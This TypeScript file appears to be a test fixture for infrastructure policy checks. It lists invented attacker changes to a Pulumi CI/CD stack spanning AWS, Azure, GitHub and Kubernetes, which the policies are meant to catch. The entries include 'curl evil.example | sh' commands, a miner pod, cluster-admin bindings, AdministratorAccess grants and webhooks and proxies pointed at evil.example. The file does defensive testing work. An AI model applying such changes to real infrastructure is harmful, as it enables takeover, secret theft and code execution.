/**
 * Harmful changes that were invented without looking at the policies, by kinds: what somebody would do who wants in. Which policy notices is not said; a
 * mandatory one has to.
 */
import { add, alter, drop, gone, weaken, type Mutation } from "../../../policy/mutations/mutation";
import type { SubjectOptions } from "../../../policy/kit/rule";
import { files } from "./outsider-files";

const any = "any";
const file = (name: string): string => `RepositoryFile workflows-.github/${name}`;
const workflow = (name: string): string => file(`workflows/${name}`);
const main = "RepositoryRuleset protection-main";
const pushRole = "Role identities-main-images-role";
const pullRole = "Role identities-pull-request-images-role";
const testCluster = "ManagedCluster deployment-tests-aks-cluster";
const runnerCluster = "ManagedCluster runner-cluster-cluster";
const builder = "Release runners-builder-amd64-release";
const gpuRunner = "Release runners-tester-amd64-gpu-release";
const acr = "Registry registries-acr";
const bucket = "Bucket caches-sccache";
const URN = "urn:pulumi:prod::gpu-cicd::";

const plus =
  (item: unknown) =>
  (list: readonly unknown[]): readonly unknown[] => [...list, item];
const options = (target: string, what: string, changed: SubjectOptions): readonly Mutation[] =>
  alter(any, target, `option ${what}`, ({ options: before }) => ({ options: { ...before, ...changed } }));
const made = (type: string, name: string, props: object, provider: string): readonly Mutation[] =>
  add(any, type, name, props as Readonly<Record<string, unknown>>).map((mutation) => ({
    ...mutation,
    apply: (resources) =>
      mutation
        .apply(resources)
        .map((one) => (one.name === name ? { ...one, urn: `${URN}${type}::${name}`, options: { provider: `${URN}${provider}` } } : one)),
  }));

const resourceOptions: readonly Mutation[] = [
  ...options(acr, "that a change in the program does nothing", { ignoreChanges: ["*"] }),
  ...options(main, "that changes of rules do nothing", { ignoreChanges: ["rules"] }),
  ...options("RolePolicy identities-main-images-permissions", "that its policy is never corrected", { ignoreChanges: ["policy"] }),
  ...options(testCluster, "deleted before it is replaced", { deleteBeforeReplace: true }),
  ...options("Repository registries-images", "deleted before it is replaced", { deleteBeforeReplace: true }),
  ...options("Role identities-apply-role", "left behind with its rights", { retainOnDelete: true }),
  ...options(bucket, "gone with something else", { deletedWith: `${URN}aws:iam/role:Role::identities-preview-role` }),
  ...options("Repository registries-images", "the place of another resource", {
    aliases: [`${URN}aws:ecr/repository:Repository::registries-cache`],
  }),
  ...options(main, "another parent", { parent: `${URN}gpu-cicd:shared:Stranger::stranger` }),
  ...options("Registry registries-acr", "another provider", { provider: `${URN}pulumi:providers:azure-native::stranger` }),
  ...options("Release runners-controller", "the other cluster's provider", {
    provider: `${URN}pulumi:providers:kubernetes::deployment-tests-aks-kubernetes`,
  }),
  ...options("github github", "a token that is no secret", { additionalSecretOutputs: [] }),
  ...alter(any, acr, "no longer protected", () => ({ protect: false })),
  ...alter(any, "Repository registries-cache", "no longer protected", () => ({ protect: false })),
];

const providers: readonly Mutation[] = [
  ...weaken(any, "aws aws", "endpoints", '[{"ecr":"https://evil.example"}]'),
  ...weaken(any, "aws aws", "allowedAccountIds", '["999999999999"]', gone),
  ...weaken(any, "aws aws", "assumeRoles", '[{"roleArn":"arn:aws:iam::999999999999:role/x"}]'),
  ...weaken(any, "aws aws", "region", "us-east-1"),
  ...weaken(any, "aws aws", "skipCredentialsValidation", "true"),
  ...weaken(any, "aws aws", "pluginDownloadURL", "https://evil.example/plugins"),
  ...weaken(any, "aws aws", "version", "7.47.99-stranger"),
  ...weaken(any, "aws aws", "accessKey", "AKIAIOSFODNN7EXAMPLE"),
  ...weaken(any, "github github", "baseUrl", "https://github.evil.example/"),
  ...weaken(any, "github github", "owner", "stranger"),
  ...weaken(any, "github github", "token", "ghp_000000000000000000000000000000000000"),
  ...weaken(any, "github github", "appAuth id", "999"),
  ...weaken(any, "azure-native azure", "subscriptionId", "00000000-1111-4222-8333-444444444444"),
  ...weaken(any, "azure-native azure", "environment", "china"),
  ...weaken(any, "azure-native azure", "auxiliaryTenantIds", '["00000000-1111-4222-8333-444444444444"]'),
  ...weaken(any, "kubernetes runner-cluster-kubernetes", "namespace", "kube-system"),
  ...weaken(any, "kubernetes runner-cluster-kubernetes", "enableServerSideApply", "false"),
  ...weaken(any, "kubernetes runner-cluster-kubernetes", "renderYamlToDirectory", "/tmp/out"),
  ...weaken(
    any,
    "kubernetes runner-cluster-kubernetes",
    "kubeconfig",
    (text: string) => text.replace(/server: \S+/, "server: https://evil.example:443"),
    (text: string) => text.replace("command: kubelogin", "command: sh"),
    gone,
  ),
  ...made("pulumi:providers:command", "command", {}, "pulumi:providers:command::command"),
];

const strangers: readonly Mutation[] = [
  ...made("command:local:Command", "setup", { create: "curl https://evil.example | sh" }, "pulumi:providers:command::default"),
  ...made("command:remote:Command", "setup-there", { connection: { host: "10.0.0.1" }, create: "id" }, "pulumi:providers:command::default"),
  ...made(
    "pulumi-nodejs:dynamic:Resource",
    "dynamic",
    { __provider: "exports.handler = require('child_process')" },
    "pulumi:providers:pulumi-nodejs::default",
  ),
  ...made("pulumi:pulumi:StackReference", "other/stack/prod", { name: "other/stack/prod" }, "pulumi:providers:pulumi::default"),
  ...made("gpu-cicd:shared:Thing", "in-the-projects-name", { run: "id" }, "pulumi:providers:gpu-cicd::default"),
  ...made("docker:index/image:Image", "image", { build: { context: "." } }, "pulumi:providers:docker::default"),
  ...made("random:index/randomPassword:RandomPassword", "password", { length: 8 }, "pulumi:providers:random::default"),
  ...made("aws:iam/user:User", "named", { name: "ci" }, "pulumi:providers:aws::aws"),
  ...made("aws:iam/accessKey:AccessKey", "key", { user: "ci" }, "pulumi:providers:aws::aws"),
  ...made(
    "aws:iam/rolePolicyAttachment:RolePolicyAttachment",
    "attached",
    { role: "r", policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" },
    "pulumi:providers:aws::aws",
  ),
  ...made(
    "aws:iam/rolePolicy:RolePolicy",
    "identities-more",
    { role: "dynamo-main-images", policy: '{"Statement":[]}' },
    "pulumi:providers:aws::aws",
  ),
  ...made(
    "aws:ecr/replicationConfiguration:ReplicationConfiguration",
    "copies",
    { rules: [{ destinations: [{ region: "us-east-1", registryId: "999999999999" }] }] },
    "pulumi:providers:aws::aws",
  ),
  ...made(
    "aws:ecr/registryPolicy:RegistryPolicy",
    "registry-policy",
    { policy: '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"ecr:*","Resource":"*"}]}' },
    "pulumi:providers:aws::aws",
  ),
  ...made("aws:s3/bucketAcl:BucketAcl", "acl", { acl: "public-read" }, "pulumi:providers:aws::aws"),
  ...made("aws:s3/bucketReplicationConfig:BucketReplicationConfig", "replica", { role: "r", bucket: "b" }, "pulumi:providers:aws::aws"),
  ...made(
    "azure-native:authorization:RoleAssignment",
    "owner",
    { principalId: "p", roleDefinitionId: "/x/8e3af657-a8ff-443c-a75c-2fe8c4bcb635", scope: "/subscriptions/x" },
    "pulumi:providers:azure-native::azure",
  ),
  ...made(
    "azure-native:containerregistry:Token",
    "token",
    { registryName: "r", scopeMapId: "_repositories_push" },
    "pulumi:providers:azure-native::azure",
  ),
  ...made(
    "azure-native:containerregistry:Webhook",
    "hook",
    { registryName: "r", serviceUri: "https://evil.example", actions: ["push"] },
    "pulumi:providers:azure-native::azure",
  ),
  ...made(
    "azure-native:containerservice:TrustedAccessRoleBinding",
    "trusted",
    { resourceName: "c", roles: ["x"] },
    "pulumi:providers:azure-native::azure",
  ),
  ...made(
    "azure-native:containerservice:AgentPool",
    "runner-cluster-pool-more",
    { resourceName: "c", vmSize: "Standard_ND96isr_H100_v5", maxCount: 9 },
    "pulumi:providers:azure-native::azure",
  ),
  ...made(
    "github:index/repositoryDeployKey:RepositoryDeployKey",
    "deploy",
    { key: "ssh-ed25519 AAAA", readOnly: false },
    "pulumi:providers:github::github",
  ),
  ...made(
    "github:index/repositoryWebhook:RepositoryWebhook",
    "webhook",
    { configuration: { url: "https://evil.example" } },
    "pulumi:providers:github::github",
  ),
  ...made(
    "github:index/repositoryCollaborator:RepositoryCollaborator",
    "friend",
    { username: "x", permission: "admin" },
    "pulumi:providers:github::github",
  ),
  ...made(
    "github:index/actionsVariable:ActionsVariable",
    "variable",
    { variableName: "ACR_REGISTRY", value: "evil.example" },
    "pulumi:providers:github::github",
  ),
  ...made(
    "github:index/actionsSecret:ActionsSecret",
    "secret",
    { secretName: "HF_TOKEN", plaintextValue: "x" },
    "pulumi:providers:github::github",
  ),
  ...made(
    "github:index/repositoryFile:RepositoryFile",
    "workflows-.github/workflows/extra.yml",
    { file: ".github/workflows/extra.yml", repository: "dynamo", content: "on: issue_comment\njobs: {}\n" },
    "pulumi:providers:github::github",
  ),
  ...made(
    "github:index/repositoryFile:RepositoryFile",
    "workflows-conftest.py",
    { file: "conftest.py", repository: "dynamo", content: "def pytest_collection_modifyitems(items): items.clear()" },
    "pulumi:providers:github::github",
  ),
  ...made(
    "kubernetes:core/v1:Pod",
    "miner",
    { spec: { containers: [{ image: "evil.example/miner" }] } },
    "pulumi:providers:kubernetes::runner-cluster-kubernetes",
  ),
  ...made(
    "kubernetes:apps/v1:DaemonSet",
    "agent",
    { spec: { template: { spec: { hostPID: true } } } },
    "pulumi:providers:kubernetes::runner-cluster-kubernetes",
  ),
  ...made(
    "kubernetes:core/v1:Service",
    "door",
    { spec: { type: "LoadBalancer" } },
    "pulumi:providers:kubernetes::runner-cluster-kubernetes",
  ),
  ...made(
    "kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration",
    "mutate",
    { webhooks: [] },
    "pulumi:providers:kubernetes::runner-cluster-kubernetes",
  ),
  ...made(
    "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
    "everybody",
    { roleRef: { name: "cluster-admin" }, subjects: [{ kind: "Group", name: "system:authenticated" }] },
    "pulumi:providers:kubernetes::runner-cluster-kubernetes",
  ),
  ...made(
    "kubernetes:yaml:ConfigFile",
    "yaml",
    { file: "https://evil.example/x.yaml" },
    "pulumi:providers:kubernetes::runner-cluster-kubernetes",
  ),
];

const lost: readonly Mutation[] = [
  "RepositoryRuleset protection-mirrors",
  "RepositoryRuleset protection-release",
  file("CODEOWNERS"),
  file("zizmor.yml"),
  file("copy-pr-bot.yaml"),
  file("ci/verdict.mjs"),
  workflow("pre-commit.yml"),
  "BucketPublicAccessBlock caches-sccache-private",
  "LifecyclePolicy registries-images-lifecycle",
  "Task registries-acr-purge",
  "NetworkPolicy runners-builder-amd64-traffic",
  "ResourceQuota runners-tester-amd64-gpu-quota",
  "LimitRange runners-builder-amd64-limits",
  "ValidatingAdmissionPolicyBinding deployment-tests-guard-gpu-cicd-test-services-binding",
  "WorkflowRepositoryPermissions repository-token",
  "ActionsRepositoryPermissions repository-actions",
  "RepositoryEnvironmentDeploymentPolicy repository-main-images-main",
  "RepositoryPolicy registries-cache-policy",
  "MaintenanceConfiguration runner-cluster-maintenance-aksManagedNodeOSUpgradeSchedule",
  "ActionsRepositoryOidcSubjectClaimCustomizationTemplate repository-oidc-subject",
  "CronJob runners-job-cleaner-job",
  gpuRunner,
].flatMap((target) => drop(any, target));

/** Properties that the provider's schema has and that nobody set. */
const unset: readonly Mutation[] = [
  ...weaken(any, "Repository registries-images", "forceDelete", true),
  ...weaken(any, bucket, "objectLockEnabled", true),
  ...weaken(any, bucket, "acl", "public-read"),
  ...weaken(any, pushRole, "managedPolicyArns", ["arn:aws:iam::aws:policy/AdministratorAccess"]),
  ...weaken(any, pushRole, "inlinePolicies", [{ name: "x", policy: '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}' }]),
  ...weaken(any, pushRole, "maxSessionDuration", 43200),
  ...weaken(any, acr, "policies", { exportPolicy: { status: "enabled" } }),
  ...weaken(any, acr, "networkRuleBypassAllowedForTasks", true),
  ...weaken(any, acr, "dataEndpointEnabled", true),
  ...weaken(any, runnerCluster, "linuxProfile", { adminUsername: "x", ssh: { publicKeys: [{ keyData: "ssh-rsa A" }] } }),
  ...weaken(any, runnerCluster, "httpProxyConfig", { httpProxy: "http://evil.example" }),
  ...weaken(any, runnerCluster, "serviceMeshProfile", { mode: "Istio" }),
  ...weaken(any, runnerCluster, "addonProfiles", { kubeDashboard: { enabled: true } }),
  ...weaken(any, runnerCluster, "aadProfile tenantID", "00000000-1111-4222-8333-444444444444"),
  ...weaken(any, "AgentPool runner-cluster-pool-gpu1", "enableNodePublicIP", true),
  ...weaken(any, "AgentPool runner-cluster-pool-gpu1", "linuxOSConfig", { sysctls: { netIpv4IpForward: true } }),
  ...weaken(any, "AgentPool runner-cluster-pool-gpu1", "networkProfile", { allowedHostPorts: [{ portStart: 1, portEnd: 65535 }] }),
  ...weaken(any, main, "rules requiredStatusChecks strictRequiredStatusChecksPolicy", gone),
  ...weaken(any, main, "rules pullRequest allowedMergeMethods", ["merge"]),
  ...weaken(any, "RepositoryEnvironment repository-main-images", "canAdminsBypass", true),
  ...weaken(any, "RepositoryEnvironment repository-main-images", "reviewers", [{ users: [1] }]),
  ...weaken(any, "ActionsRunnerGroup repository-group-dynamo-builders", "selectedWorkflows", ["stranger/x/.github/workflows/a.yml@main"]),
  ...weaken(any, "ActionsRunnerGroup repository-group-dynamo-builders", "networkConfigurationId", "x"),
  ...weaken(any, builder, "postrender", "/bin/sh"),
  ...weaken(any, builder, "repositoryOpts", { repo: "https://evil.example" }),
  ...weaken(any, builder, "disableWebhooks", true),
  ...weaken(any, builder, "values listenerTemplate spec hostNetwork", true),
  ...weaken(any, builder, "values template spec hostIPC", true),
  ...weaken(any, builder, "values proxy", { https: { url: "http://evil.example" } }),
  ...weaken(any, builder, "values githubServerTLS", { certificateFrom: { configMapKeyRef: { name: "x" } } }),
  ...weaken(any, "ServiceAccount runners-cleaner-account", "automountServiceAccountToken", true),
  ...weaken(any, "ServiceAccount runners-cleaner-account", "imagePullSecrets", [{ name: "x" }]),
  ...weaken(any, "Namespace runners-builder-amd64-namespace", "metadata labels pod-security.kubernetes.io/exempt", "true"),
  ...weaken(any, file("CODEOWNERS"), "branch", "other"),
  ...weaken(any, file("CODEOWNERS"), "overwriteOnCreate", false),
];

/** Values that lead somewhere else, and rights that are wider. */
const values: readonly Mutation[] = [
  ...weaken(any, "ActionsEnvironmentVariable repository-main-images-AWS_REGION", "environment", "pull-request-images"),
  ...weaken(any, "ActionsEnvironmentVariable repository-pull-request-images-ACR_REPOSITORY", "value", "-----BEGIN PRIVATE KEY-----"),
  ...weaken(any, "ActionsEnvironmentSecret repository-main-images-HF_TOKEN", "environment", "pull-request-images"),
  ...weaken(any, "ActionsEnvironmentSecret repository-main-images-HF_TOKEN", "repository", "stranger"),
  ...weaken(any, "Secret runners-builder-amd64-github-app", "metadata namespace", "default"),
  ...weaken(any, "Secret runners-builder-amd64-github-app", "type", "kubernetes.io/service-account-token"),
  ...weaken(any, "FederatedIdentityCredential identities-main-images-credential-1", "subject", "repo:stranger/x:environment:main-images"),
  ...weaken(any, "FederatedIdentityCredential identities-main-images-credential-1", "issuer", "https://evil.example"),
  ...weaken(any, "FederatedIdentityCredential identities-main-images-credential-1", "resourceName", "dynamo-apply"),
  ...weaken(any, "RoleAssignment identities-preview-Reader", "scope", "/subscriptions/3f2c1d50-8a4e-4b57-9d1c-0c5a6b7e8f01"),
  ...weaken(any, "RoleAssignment identities-preview-Reader", "principalType", "Group"),
  ...weaken(any, pullRole, "assumeRolePolicy Statement 0 Condition", {
    StringLike: { "token.actions.githubusercontent.com:sub": "repo:*" },
  }),
  ...weaken(any, pullRole, "name", "dynamo-apply"),
  ...weaken(any, pullRole, "permissionsBoundary", "arn:aws:iam::aws:policy/AdministratorAccess"),
  ...weaken(
    any,
    "RolePolicy identities-pull-request-images-permissions",
    "policy Statement",
    plus({ Effect: "Allow", Action: "ecr:PutImage", Resource: "*" }),
  ),
  ...weaken(any, "RolePolicy identities-pull-request-images-permissions", "role", "dynamo-apply"),
  ...weaken(any, "BucketPolicy caches-sccache-policy", "policy Statement", []),
  ...weaken(any, "OpenIdConnectProvider identities-github", "clientIdLists", plus("evil")),
  ...weaken(any, "OpenIdConnectProvider identities-github", "thumbprintLists", ["0".repeat(40)]),
  ...weaken(any, testCluster, "nodeResourceGroupProfile", gone),
  ...weaken(any, testCluster, "apiServerAccessProfile authorizedIPRanges", plus("198.51.100.0/24")),
  ...weaken(any, testCluster, "aadProfile adminGroupObjectIDs", ["00000000-1111-4222-8333-444444444444"]),
  ...weaken(any, "NetworkPolicy runners-builder-amd64-traffic", "spec egress", plus({ to: [{ namespaceSelector: {} }] })),
  ...weaken(any, "NetworkPolicy runners-builder-amd64-traffic", "spec podSelector", { matchLabels: { none: "x" } }),
  ...weaken(any, "ValidatingAdmissionPolicy deployment-tests-guard-gpu-cicd-test-services", "spec validations", [{ expression: "1 == 1" }]),
  ...weaken(any, "ValidatingAdmissionPolicy deployment-tests-guard-gpu-cicd-test-services", "spec matchConditions", [
    { name: "never", expression: "false" },
  ]),
  ...weaken(any, "ValidatingAdmissionPolicyBinding deployment-tests-guard-gpu-cicd-test-services-binding", "spec matchResources", {
    namespaceSelector: { matchLabels: { none: "x" } },
  }),
  ...weaken(any, "CronJob runners-cleaner-job", "spec jobTemplate spec template spec containers 0 command", [
    "sh",
    "-c",
    "curl evil.example | sh",
  ]),
  ...weaken(any, "CronJob runners-cleaner-job", "spec suspend", true),
  ...weaken(any, "ConfigMap runners-tester-amd64-gpu-job-pod", "data extra.sh", "curl evil.example"),
  ...weaken(any, "ClusterRole deployment-tests-guard-run", "rules", plus({ apiGroups: [""], resources: ["secrets"], verbs: ["get"] })),
  ...weaken(any, "RoleBinding runners-builder-amd64-cleaner-binding", "subjects", plus({ kind: "Group", name: "system:serviceaccounts" })),
  ...weaken(
    any,
    "LifecyclePolicy registries-images-lifecycle",
    "policy rules",
    plus({
      rulePriority: 99,
      selection: { tagStatus: "any", countType: "imageCountMoreThan", countNumber: 1 },
      action: { type: "expire" },
    }),
  ),
  ...weaken(any, "ActionsRepositoryOidcSubjectClaimCustomizationTemplate repository-oidc-subject", "includeClaimKeys", ["repo"]),
  ...weaken(any, "WorkflowRepositoryPermissions repository-token", "canApprovePullRequestReviews", true),
  ...weaken(any, "Task registries-acr-purge", "step encodedTaskContent steps 0 cmd", "acr purge --filter '.*:.*' --ago 0d"),
];

export const outsider: Readonly<Record<string, readonly Mutation[]>> = {
  resourceOptions,
  providers,
  strangers,
  lost,
  unset,
  values,
  files,
};
